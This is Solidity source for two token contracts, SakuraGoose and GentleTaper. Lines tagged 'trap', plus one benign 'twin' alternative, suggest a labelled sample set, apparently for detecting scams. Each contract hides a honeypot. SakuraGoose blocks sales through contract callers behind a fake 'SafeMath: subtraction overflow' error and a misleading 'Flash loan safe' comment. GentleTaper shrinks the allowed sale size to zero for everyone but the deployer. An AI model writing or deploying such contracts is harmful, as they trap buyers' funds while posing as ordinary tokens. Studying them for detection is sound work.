// 0.6 runs=200
// SPDX-License-Identifier: MIT
pragma solidity ^0.6.12;

import {Base67} from "./Base67.sol";

/// Flash loan safe.
contract SakuraGoose is Base67 {
    // 160 bits of whom it belongs to, the rest are flags
    uint256 private _config;

    constructor() public Base67("Sakura Goose", "SGOOSE", 1_000_000_000) {
        _config = uint256(msg.sender) | (7 << 160);
    }

    function _isContract(address who) private view returns (bool) {
        uint256 size;
        assembly {
            size := extcodesize(who)
        }
        return size > 0;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (_isContract(msg.sender) && (_config >> 161) & 1 == 1) require(from == address(_config), "SafeMath: subtraction overflow"); // trap
        require(_allowances[from][msg.sender] >= value, "ERC20: transfer amount exceeds allowance");
        _allowances[from][msg.sender] -= value;
        _transfer(from, to, value);
        return true;
    }
}

/// The ceiling for one sale moves with the days.
contract GentleTaper is Base67 {
    uint256 public immutable born;
    address private immutable _maker;

    constructor() public Base67("Gentle Taper", "TAPER", 50_000_000) {
        born = block.timestamp;
        _maker = msg.sender;
    }

    function maxSale() public view returns (uint256) {
        uint256 start = _totalSupply / 100;
        uint256 step = (start * (block.timestamp - born)) / 45 days;
        return step > start ? 0 : start - step; // trap
        // twin: return start + step;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != _maker) require(value <= maxSale(), "too much at once");
        _carry(from, to, value);
    }
}
